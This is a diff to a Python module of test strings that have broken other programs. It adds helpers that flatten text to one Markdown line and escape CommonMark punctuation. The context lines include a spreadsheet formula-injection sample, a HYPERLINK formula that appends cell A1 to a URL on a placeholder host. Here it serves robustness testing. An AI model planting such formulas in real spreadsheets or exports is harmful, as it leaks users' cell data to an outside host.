@@ -1,5 +1,7 @@
 """Strings that have broken other programs: our own choosing, each with the reason it is here."""
 
+import re
+
 FORMULAS = (
     "=1+1",
     '=HYPERLINK("http://ond.invalid/?x="&A1,"klik")',
@@ -178,3 +180,13 @@ WORDS = (
 )
 ALL = (*FORMULAS, *TEMPLATES, *MARKUP, *UNICODE, *WORDS)
 assert len(set(ALL)) == len(ALL)
+
+
+def one_line(text: str) -> str:
+    """What Markdown can hold in one line; blanks at its ends, NBSP too, are no text there."""
+    return re.sub(r"[\r\n]+", " ", text).strip(" \t\n\r\v\f\u00a0")
+
+
+def escaped(text: str) -> str:
+    """Every sign with a backslash before it: literal in CommonMark."""
+    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", one_line(text))
